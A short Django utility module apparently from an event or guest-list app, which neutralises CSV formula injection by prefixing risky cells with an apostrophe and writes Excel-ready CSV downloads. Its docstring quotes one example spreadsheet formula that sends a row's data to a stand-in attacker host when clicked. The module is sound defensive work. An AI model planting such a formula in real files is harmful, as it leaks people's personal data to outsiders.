"""CSV files that a spreadsheet opens safely (every CSV export goes through here).

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) is a formula to Excel and LibreOffice: a guest named
``=HYPERLINK("http://evil.test/?x="&A2,"Voir")`` would send the row next to
it to a stranger when the coordinator clicks. OWASP's advice ("CSV
injection"): prefix such a cell with ``'``, which the spreadsheet shows as
text and does not display.
"""

import csv

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value) -> str:
    """One cell as text, never read as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_response(rows, *, filename: str) -> HttpResponse:
    """A CSV download for a French Excel: UTF-8 with a BOM, ``;`` between cells, CRLF lines."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")  # the BOM tells Excel the file is UTF-8
    writer = csv.writer(response, delimiter=";", lineterminator="\r\n")
    writer.writerows([cell(value) for value in row] for row in rows)
    return response
